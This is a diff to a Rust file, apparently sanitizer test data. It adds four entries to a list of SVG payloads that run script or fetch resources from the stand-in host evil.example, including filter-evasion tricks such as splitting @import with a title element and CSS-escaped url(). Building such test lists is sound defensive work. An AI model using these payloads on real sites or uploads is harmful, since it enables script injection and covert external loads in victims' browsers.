@@ -7,7 +7,7 @@ use bantin::pipeline::Drafts;
 const SVG: &str = "xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";
 
 /// Ways to run or to fetch something from a picture; all of them work in some browser that opens the file.
-const ACTIVE: [&str; 24] = [
+const ACTIVE: [&str; 28] = [
     "<script>alert(1)</script>",
     "<script href=\"data:text/javascript,alert(1)\"/>",
     "<script xlink:href=\"//evil.example/x.js\"/>",
@@ -27,6 +27,10 @@ const ACTIVE: [&str; 24] = [
     "<feImage href=\"//evil.example/dem.png\"/>",
     "<style>@import url(//evil.example/x.css);</style>",
     "<style><![CDATA[a{fill:url(//evil.example/x)}]]></style>",
+    "<style><title>b</title>@import \"//evil.example/x.css\";</style>",
+    "<style>@imp<title>b</title>ort \"//evil.example/x.css\";</style>",
+    "<rect width=\"9\" height=\"9\" mask=\"image-set('//evil.example/x' 1x)\"/>",
+    "<rect width=\"9\" height=\"9\" fill=\"u\\72l(//evil.example/x)\"/>",
     "<path style=\"fill:url(&#104;ttps://evil.example/x)\"/>",
     "<path fill=\"url('https://evil.example/x#a')\"/>",
     "<handler xmlns=\"http://www.w3.org/2001/xml-events\"/><video href=\"//evil.example\"/>",
